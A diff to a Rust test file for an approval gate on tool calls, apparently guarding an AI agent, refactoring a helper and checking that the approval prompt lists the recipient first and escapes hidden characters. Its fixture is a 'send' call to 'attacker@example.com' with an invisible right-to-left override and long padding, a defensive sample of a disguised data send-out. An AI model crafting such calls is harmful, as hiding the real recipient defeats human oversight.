@@ -1113,13 +1113,26 @@ fn ask_for_approval(
     wait: &str,
     call: &str,
 ) -> (Child, String) {
+    let audit = ["--audit", audit.to_str().unwrap()];
+    let (c, _, id) = asking(policy, state, wait, &audit, call);
+    (c, id)
+}
+
+/// Starts `decide --approval-wait` with `extra` arguments on `call`: the process, its
+/// standard error past the first line, and the approval id that line names.
+fn asking(
+    policy: &Path,
+    state: &Path,
+    wait: &str,
+    extra: &[&str],
+    call: &str,
+) -> (Child, BufReader<std::process::ChildStderr>, String) {
     let mut c = bin()
         .args(["decide", "--policy"])
         .arg(policy)
         .args(["--grants", "", "--approval-wait", wait, "--state"])
         .arg(state)
-        .arg("--audit")
-        .arg(audit)
+        .args(extra)
         .stdin(Stdio::piped())
         .stdout(Stdio::piped())
         .stderr(Stdio::piped())
@@ -1129,11 +1142,13 @@ fn ask_for_approval(
     let mut err = BufReader::new(c.stderr.take().unwrap());
     let mut line = String::new();
     err.read_line(&mut line).unwrap();
+    assert!(line.contains("--show"), "{line}");
     let at = line
         .find("\"id\":\"")
         .expect("the approval line names its id")
         + 6;
-    (c, line[at..at + 32].to_owned())
+    let id = line[at..at + 32].to_owned();
+    (c, err, id)
 }
 
 fn approve(state: &Path, id: &str, extra: &[&str]) -> (String, i32) {
@@ -1222,33 +1237,19 @@ fn approve_show_prints_the_pending_call_and_the_prompt_puts_sinks_first() {
     let call = format!(
         r#"{{"tool":"send","arguments":{{"note":"{pad}","to":"attacker@example.com\u202e"}}}}"#
     );
-    let mut c = bin()
-        .args(["decide", "--policy"])
-        .arg(&policy)
-        .args(["--grants", "", "--approval-wait", "20", "--state"])
-        .arg(&state)
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .unwrap();
-    c.stdin.take().unwrap().write_all(call.as_bytes()).unwrap();
-    let mut err = BufReader::new(c.stderr.take().unwrap());
-    let mut prompt = [String::new(), String::new(), String::new()];
+    let (c, mut err, id) = asking(&policy, &state, "20", &[], &call);
+    let mut prompt = [String::new(), String::new()];
     for l in &mut prompt {
         err.read_line(l).unwrap();
     }
-    let at = prompt[0].find("\"id\":\"").unwrap() + 6;
-    let id = prompt[0][at..at + 32].to_owned();
-    assert!(prompt[0].contains("--show"), "{}", prompt[0]);
     // The sink first, its invisible override escaped; the padding cut on its own.
-    assert_eq!(prompt[1], "/to = \"attacker@example.com\\u202e\"\n");
+    assert_eq!(prompt[0], "/to = \"attacker@example.com\\u202e\"\n");
     assert!(
-        prompt[2].starts_with("/note = \"ppp") && prompt[2].ends_with(" bytes)\n"),
+        prompt[1].starts_with("/note = \"ppp") && prompt[1].ends_with(" bytes)\n"),
         "{}",
-        prompt[2]
+        prompt[1]
     );
-    assert!(prompt[2].len() < 400, "{}", prompt[2].len());
+    assert!(prompt[1].len() < 400, "{}", prompt[1].len());
     // --show: the record, then every argument, without answering.
     let (out, code) = approve(&state, &id, &["--show"]);
     assert_eq!(code, 0, "{out}");
